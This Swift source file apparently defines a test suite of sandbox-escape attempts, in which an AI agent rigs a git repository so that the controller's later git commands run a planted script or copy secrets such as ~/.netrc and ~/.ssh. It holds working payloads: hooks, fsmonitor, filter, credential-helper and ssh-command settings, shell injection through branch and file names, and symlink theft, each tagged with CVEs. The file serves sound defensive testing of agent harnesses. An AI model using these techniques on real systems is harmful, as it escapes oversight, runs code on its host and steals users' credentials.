extension EscapeCase {
    /// An attempt at whoever runs git on what the agent left; `p.sh` there leaves a mark.
    private static func trap(
        _ name: String, _ summary: String, _ script: String, by careless: String,
        _ incidents: String...
    ) -> EscapeCase {
        var result = EscapeCase(
            .git, name, "have the controller \(summary)", .changed,
            "printf '#!/bin/sh\\necho got >> '$HOST'/mark\\n' > p.sh; chmod +x p.sh; P=$WORK/p.sh\n"
                + script, incidents)
        result.careless = careless
        return result
    }

    /// An attempt to have something of the machine brought into the repository.
    private static func theft(
        _ name: String, _ summary: String, _ script: String, by careless: String,
        _ incidents: String...
    ) -> EscapeCase {
        var result = EscapeCase(
            .git, name, "have the controller \(summary)", .leak, script, incidents)
        result.careless = careless
        return result
    }

    /// Attempts at the controller's git.
    static let git = settings + attributes + places + remotes + names + thefts

    private static let settings = [
        trap(
            "git-hook", "run a hook",
            """
            cp p.sh $AGENT/hooks/pre-commit || { mkdir -p $AGENT/hooks; cp p.sh \
            $AGENT/hooks/pre-commit; }
            """,
            by: "git commit -q --allow-empty -m x", "CVE-2026-26268", "CVE-2026-60004"),
        trap(
            "git-hook-checkout", "run a hook of a checkout",
            "mkdir -p $AGENT/hooks; cp p.sh $AGENT/hooks/post-checkout",
            by: "git checkout -q -b other", "CVE-2024-32002"),
        trap(
            "git-hook-reference", "run a hook of references",
            "mkdir -p $AGENT/hooks; cp p.sh $AGENT/hooks/reference-transaction",
            by: "git update-ref refs/heads/other HEAD"),
        trap(
            "git-hooks-path", "look for hooks in the tree",
            "mkdir h; cp p.sh h/pre-commit; git config core.hooksPath $WORK/h",
            by: "git commit -q --allow-empty -m x", "CVE-2026-26268", "Claude Code #66993"),
        trap(
            "git-hook-setting", "run a hook of the settings",
            "git config hook.x.command $P; git config hook.x.event pre-commit",
            by: "git commit -q --allow-empty -m x"),
        trap(
            "git-fsmonitor", "run a monitor of files", "git config core.fsmonitor $P",
            by: "git status", "CVE-2026-26268", "CVE-2022-24765"),
        trap(
            "git-include", "include settings of the tree",
            "printf '[core]\\nfsmonitor = %s\\n' $P > more; git config include.path $WORK/more",
            by: "git status"),
        trap(
            "git-include-if", "include settings where they apply",
            """
            printf '[core]\\nfsmonitor = %s\\n' $P > more; git config includeIf.gitdir:/.path \
            $WORK/more
            """,
            by: "git status"),
        trap(
            "git-worktree-settings", "read the settings of a work tree",
            """
            git config core.repositoryFormatVersion 1; git config extensions.worktreeConfig \
            true; printf '[core]\\nfsmonitor = %s\\n' $P > $AGENT/config.worktree
            """,
            by: "git status"),
        trap(
            "git-injected-section", "read a value that is a section",
            "printf '[user]\\n\\tname = x\\n[core]\\n\\tfsmonitor = %s\\n' $P >> $AGENT/config",
            by: "git status", "CVE-2023-29007"),
        trap(
            "git-editor", "open an editor", "git config core.editor $P",
            by: "git commit -q --allow-empty"),
        trap(
            "git-signature", "check a signature",
            """
            git config gpg.program $P; git config log.showSignature true; t=$(git write-tree); \
            printf 'tree %s\\nauthor a <a@x> 1 +0000\\ncommitter a <a@x> 1 +0000\\ngpgsig \
            -----BEGIN PGP SIGNATURE-----\\n x\\n -----END PGP SIGNATURE-----\\n\\nx\\n' $t > \
            c; git update-ref HEAD $(git hash-object -t commit -w c)
            """,
            by: "git log -1 --show-signature"),
        trap(
            "git-signing", "sign a commit",
            "git config gpg.program $P; git config commit.gpgSign true",
            by: "git commit -q --allow-empty -m x"),
        trap("git-alias", "run an alias", "git config alias.st \"!$P\"", by: "git st"),
        trap(
            "git-trailer", "run a trailer's command",
            "git config trailer.x.key X; git config trailer.x.cmd $P",
            by: "echo s | git interpret-trailers --trailer x=1"),
    ]

    private static let attributes = [
        trap(
            "git-filter-clean", "filter what is added",
            "git config filter.x.clean $P; echo '* filter=x' > .gitattributes; echo new > g",
            by: "git add -A", "CVE-2021-21300"),
        trap(
            "git-filter-smudge", "filter what is checked out",
            "git config filter.x.smudge $P; echo '* filter=x' > .gitattributes; rm -f file",
            by: "git checkout -q -- file", "CVE-2021-21300"),
        trap(
            "git-filter-process", "start a filter that stays",
            "git config filter.x.process $P; echo '* filter=x' > .gitattributes; echo new > g",
            by: "git add -A"),
        trap(
            "git-filter-info", "filter by its private attributes",
            """
            git config filter.x.clean $P; mkdir -p $AGENT/info; echo '* filter=x' > \
            $AGENT/info/attributes; echo new > g
            """,
            by: "git add -A"),
        trap(
            "git-textconv", "convert for a comparison",
            "git config diff.x.textconv $P; echo '* diff=x' > .gitattributes; echo more >> file",
            by: "git diff"),
        trap(
            "git-diff-external", "compare with a program",
            "git config diff.external $P; echo more >> file", by: "git diff"),
        trap(
            "git-diff-driver", "compare with a driver",
            "git config diff.x.command $P; echo '* diff=x' > .gitattributes; echo more >> file",
            by: "git diff"),
        trap(
            "git-merge-driver", "merge with a driver",
            """
            git config merge.x.driver $P; echo '* merge=x' > .gitattributes; git add -A; git \
            commit -qm a; git checkout -qb side HEAD~1 -- 2>/dev/null || git checkout -qb side \
            HEAD~1; echo '* merge=x' > .gitattributes; echo s > file; git add -A; git commit \
            -qm s; git checkout -q -; echo t > file; git add -A; git commit -qm t
            """,
            by: "git merge -q side"),
    ]

    private static let places = [
        trap(
            "git-swapped-file", "follow another '.git'",
            """
            git init -q evil; git -C evil config core.worktree $WORK; git -C evil config \
            core.fsmonitor $P; rm -f .git; echo \"gitdir: $WORK/evil/.git\" > .git
            """,
            by: "git status", "CVE-2026-26268"),
        trap(
            "git-directory-for-file", "find a directory as '.git'",
            "rm -f .git && git init -q . && git config core.fsmonitor $P", by: "git status",
            "CVE-2024-32004", "CVE-2024-32465"),
        trap(
            "git-common-directory", "follow another common directory",
            """
            git init -q --bare evil; git -C evil config core.fsmonitor $P; git -C evil config \
            core.bare false; git -C evil config core.worktree $WORK; echo $WORK/evil > \
            $AGENT/commondir
            """,
            by: "git status"),
        trap(
            "git-nested", "enter a nested repository",
            """
            git init -q sub; git -C sub -c user.name=a -c user.email=a@x commit -q \
            --allow-empty -m s; git -C sub config core.fsmonitor $P; git add sub 2>/dev/null
            """,
            by: "git status; git add -A", "CVE-2022-24765"),
        trap(
            "git-nested-filter", "filter in a nested repository",
            """
            git init -q sub; echo a > sub/a; git -C sub add a; git -C sub -c user.name=a -c \
            user.email=a@x commit -qm s; git add sub 2>/dev/null; git -C sub config \
            filter.x.clean $P; echo '* filter=x' > sub/.gitattributes; echo b > sub/a
            """,
            by: "git status; git add -A"),
        trap(
            "git-buried", "discover a buried repository",
            """
            mkdir sub; cd sub; mkdir -p objects refs; echo 'ref: refs/heads/x' > HEAD; printf \
            '[core]\\nrepositoryformatversion = 0\\nbare = false\\nworktree = ..\\nfsmonitor = \
            %s\\n' $P > config
            """,
            by: "cd sub && git status", "CVE-2022-29187"),
        trap(
            "git-submodule-update", "update a submodule",
            """
            git init -q sub; git -C sub -c user.name=a -c user.email=a@x commit -q \
            --allow-empty -m s; printf '[submodule \"sub\"]\\npath = sub\\nurl = ./sub\\n' > \
            .gitmodules; git add sub .gitmodules 2>/dev/null; git config submodule.sub.url \
            $WORK/sub; git config submodule.sub.update \"!$P\"
            """,
            by: "git submodule update --force", "CVE-2018-17456", "CVE-2018-11235", "CVE-2025-48384"
        ),
        trap(
            "git-worktree-setting", "write into the user's home",
            """
            mkdir -p t/.ssh; git config core.worktree $HOST/home; echo evil > $WORK/.bashrc; \
            b=$(git --work-tree=$WORK hash-object -w .bashrc); git --work-tree=$WORK \
            update-index --add --cacheinfo 100644,$b,.bashrc; git --work-tree=$WORK commit -qm \
            x
            """,
            by: "git --git-dir=$AGENT checkout -q -f", "CVE-2023-25652", "CVE-2023-23946"),
        trap(
            "git-tree-of-hooks", "lay out a tree with a hook in it",
            """
            b=$(git hash-object -w p.sh); h=$(printf '100755 blob %s\\tpost-commit\\n' $b | \
            git mktree); g=$(printf '040000 tree %s\\thooks\\n' $h | git mktree); r=$(printf \
            '040000 tree %s\\t.git\\n' $g | git mktree --missing); c=$(git -c user.name=a -c \
            user.email=a@x commit-tree $r -p HEAD -m x); git update-ref HEAD $c
            """,
            by: "git archive HEAD | tar -x -C $REPO; git -C $REPO commit -q --allow-empty -m x",
            "CVE-2026-60004", "CVE-2018-11235", "CVE-2026-53584"),
    ]

    private static let remotes = [
        trap(
            "git-upload-pack", "fetch by a program",
            "git config remote.origin.url $WORK; git config remote.origin.uploadpack $P",
            by: "git fetch -q origin"),
        trap(
            "git-receive-pack", "push by a program",
            "git config remote.origin.url $WORK; git config remote.origin.receivepack $P",
            by: "git push -q origin HEAD:refs/heads/x", "CVE-2026-5917"),
        trap(
            "git-ssh-command", "connect by a program",
            "git config core.sshCommand $P; git config remote.origin.url ssh://nowhere.invalid/x",
            by: "git fetch -q origin"),
        trap(
            "git-proxy-command", "connect through a program",
            "git config core.gitProxy $P; git config remote.origin.url git://nowhere.invalid/x",
            by: "git fetch -q origin"),
        trap(
            "git-external-url", "fetch from a command",
            "git config protocol.ext.allow always; git config remote.origin.url \"ext::$P\"",
            by: "git fetch -q origin", "CVE-2025-48385"),
        trap(
            "git-instead-of", "fetch from elsewhere",
            """
            git config protocol.ext.allow always; git config \"url.ext::$P .insteadOf\" \
            https://; git config remote.origin.url https://nowhere.invalid/x
            """,
            by: "git fetch -q origin"),
        trap(
            "git-promisor", "ask a promisor for what is missing",
            """
            git config core.repositoryFormatVersion 1; git config extensions.partialClone \
            origin; git config remote.origin.url $WORK; git config remote.origin.promisor \
            true; git config remote.origin.uploadpack $P; r=$(printf '100644 blob \
            1234567890123456789012345678901234567890\\tlost\\n' | git mktree --missing); git \
            update-ref HEAD $(git commit-tree $r -p HEAD -m x)
            """,
            by: "git log -p -1", "CVE-2024-32465"),
        trap(
            "git-alternate-references", "ask a program for references",
            "git config core.alternateRefsCommand $P; git config remote.origin.url $REPO",
            by: "git fetch -q origin refs/heads/main"),
        trap(
            "git-credential-helper", "ask a program for a password",
            "git config credential.helper \"!$P\"",
            by:
                """
                printf 'protocol=https\\nhost=nowhere.invalid\\n\\n' | GIT_TERMINAL_PROMPT=0 \
                git credential fill
                """,
            "CVE-2024-52006", "CVE-2024-50349", "CVE-2026-53586"),
    ]

    private static let names = [
        trap(
            "git-branch-name", "hand a branch's name to a shell", "git branch 'x;sh${IFS}p.sh'",
            by:
                """
                for b in $(git for-each-ref --format='%(refname:short)' refs/heads); do sh -c \
                \"git log -1 $b\"; done
                """,
            "Codex branch name", "CVE-2025-53107", "CVE-2025-6514"),
        trap(
            "git-file-name", "hand a file's name to a shell", "echo x > 'a;sh p.sh;'",
            by: "for f in a*; do sh -c \"cat $f\"; done", "CVE-2025-53107"),
        trap(
            "git-option-name", "take a file's name as an option",
            "f=\"--output=$HOST/mark\"; mkdir -p \"./${f%/*}\"; echo x > \"./$f\"",
            by: "git add -A; git ls-files | xargs git diff", "CVE-2025-68144", "CVE-2025-68143",
            "CVE-2026-27735"),
        trap(
            "git-environment", "take over the agent's environment",
            "printf 'export GIT_EXTERNAL_DIFF=%s\\n' $P > .env; echo more >> file",
            by: ". ./.env; git diff", "beads #3311", "CVE-2026-22708"),
    ]

    private static let thefts = [
        theft(
            "git-link", "store what a link leads to", "ln -s $HOST/home/.netrc e.txt",
            by: "cp -RL . $HOST/copy", "CVE-2026-103916", "CVE-2026-41397"),
        theft(
            "git-folder-link", "store what a linked folder holds", "ln -s $HOST/home/.ssh e",
            by: "cp -RL . $HOST/copy", "CVE-2026-39861", "CVE-2026-50549"),
        theft(
            "git-replaced-folder", "store through a folder that became a link",
            """
            rm -r dir; ln -s $HOST/home dir; mkdir -p x; cp p x 2>/dev/null; git add dir \
            2>/dev/null
            """,
            by: "cp -RL . $HOST/copy", "CVE-2025-53109"),
        theft(
            "git-alternate", "take objects of another repository",
            """
            echo $HOST/other.git/objects >> $AGENT/objects/info/alternates; r=$(printf '100644 \
            blob %s\\te.txt\\n' $BLOB | git mktree --missing); git update-ref HEAD $(git \
            commit-tree $r -p HEAD -m x)
            """,
            by:
                """
                git clone -q --bare $AGENT $HOST/copy; git -C $HOST/copy cat-file -p \
                HEAD:e.txt > $HOST/copy/e.txt
                """
        ),
        theft(
            "git-linked-objects", "take objects through a link",
            """
            d=${BLOB%${BLOB#??}}; rm -rf $AGENT/objects/$d; ln -s $HOST/other.git/objects/$d \
            $AGENT/objects/$d; r=$(printf '100644 blob %s\\te.txt\\n' $BLOB | git mktree \
            --missing); git update-ref HEAD $(git commit-tree $r -p HEAD -m x)
            """,
            by:
                "mkdir -p $HOST/copy; git cat-file -p HEAD:e.txt > $HOST/copy/e.txt"
        ),
        theft(
            "git-ignore-file", "quote a file as a list to ignore",
            "git config blame.ignoreRevsFile $HOST/home/.netrc",
            by: "mkdir -p $HOST/copy; git blame file 2> $HOST/copy/errors"),
        theft(
            "git-linked-result", "read another file as the result",
            "ln -sf $HOST/home/.netrc $OUT/result.json",
            by: "mkdir -p $HOST/copy; cat $OUT/result.json > $HOST/copy/result", "CVE-2026-103916"),
        theft(
            "git-linked-event", "read another file as the events",
            "ln -sf $HOST/home/.netrc $OUT/events.jsonl",
            by: "mkdir -p $HOST/copy; cat $OUT/events.jsonl > $HOST/copy/events", "CVE-2026-41397"),
    ]
}
